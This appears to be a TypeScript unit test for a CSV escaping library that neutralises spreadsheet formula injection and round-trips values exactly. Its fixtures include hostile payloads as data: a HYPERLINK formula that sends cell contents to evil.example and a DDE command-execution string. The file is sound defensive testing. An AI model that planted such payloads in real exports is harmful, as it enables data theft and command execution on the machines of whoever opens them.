import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvRow, neutraliseFormula, restoreCell } from '../../../lib/csv/escape-cell.ts';

// [value as read, cell written to the CSV (after quoting)]
const CASES: [string, string][] = [
  ['plain', 'plain'],
  ['', ''],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', `"'\r=1+1"`],
  ['\n=1+1', '"\n=1+1"'], // a line break inside a quoted cell starts no formula
  [' =1+1', ' =1+1'],
  ['a=1', 'a=1'],
  // Plain numbers are data, not formulas.
  ['-5', '-5'],
  ['+3.25', '+3.25'],
  ['-1e-3', '-1e-3'],
  ['-.5', '-.5'],
  ['-', "'-"],
  ['--5', "'--5"],
  // Already starting with apostrophes before a formula character: one more, so restoring is exact.
  ["'=1+1", "''=1+1"],
  ["''@x", "'''@x"],
  ["'plain", "'plain"],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
];

test('csvCell neutralises formulas and quotes as RFC 4180', () => {
  for (const [value, cell] of CASES) assert.equal(csvCell(value), cell, JSON.stringify(value));
});

test('restoreCell gives back every value exactly', () => {
  for (const [value] of CASES) assert.equal(restoreCell(neutraliseFormula(value)), value, JSON.stringify(value));
  for (const value of ['x', "'", "''", "'-5", '-5', "'\t", '@', '==']) assert.equal(restoreCell(neutraliseFormula(value)), value, JSON.stringify(value));
});

test('no written cell starts with a formula character unless it is a plain number', () => {
  for (const [value] of CASES) {
    const s = neutraliseFormula(value);
    assert.ok(!/^[=+\-@\t\r]/.test(s) || /^[+-]?[\d.]/.test(s), JSON.stringify(s));
  }
});

test('csvRow: numbers, empty values, and a row', () => {
  assert.equal(csvRow(['a', 1, -2, null, undefined, true, 3n, '=x']), "a,1,-2,,,true,3,'=x");
});
